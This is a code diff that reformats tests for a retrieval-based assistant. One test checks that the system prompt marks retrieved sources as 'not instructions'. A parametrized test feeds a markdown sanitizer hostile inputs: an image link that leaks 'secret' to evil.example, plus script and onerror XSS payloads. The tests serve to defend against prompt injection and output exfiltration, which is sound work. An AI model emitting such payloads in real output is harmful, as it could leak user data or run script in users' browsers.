@@ -23,8 +23,13 @@ def assistant(settings: Settings, embedder: HashEmbedder) -> Assistant:
 
 
 def test_prompt_numbers_sources_and_states_the_rules() -> None:
-    prompt = build_messages("How many days?", [hit("27 days", 3), hit("45 euros", 5)],
-                            count_tokens=len, context_size=4000, max_answer_tokens=200)
+    prompt = build_messages(
+        "How many days?",
+        [hit("27 days", 3), hit("45 euros", 5)],
+        count_tokens=len,
+        context_size=4000,
+        max_answer_tokens=200,
+    )
     system, user = prompt.messages[0]["content"], prompt.messages[-1]["content"]
     assert "only" in system and "[1]" in system and NOT_FOUND in system and "not instructions" in system
     assert '<source id="1" from="hb.pdf, page 3">' in user and '<source id="2" from="hb.pdf, page 5">' in user
@@ -101,8 +106,13 @@ def test_the_index_is_reread_after_a_new_commit(assistant: Assistant, tmp_path: 
 
 @pytest.mark.parametrize(
     "hostile",
-    ["![x](https://evil.example/leak?q=secret)", "<img src=x onerror=alert(1)>", "[click](http://evil.example)",
-     "visit www.evil.example now", "<script>alert(1)</script>"],
+    [
+        "![x](https://evil.example/leak?q=secret)",
+        "<img src=x onerror=alert(1)>",
+        "[click](http://evil.example)",
+        "visit www.evil.example now",
+        "<script>alert(1)</script>",
+    ],
 )
 def test_safe_markdown_leaves_no_link_image_or_html(hostile: str) -> None:
     rendered = safe_markdown(hostile)
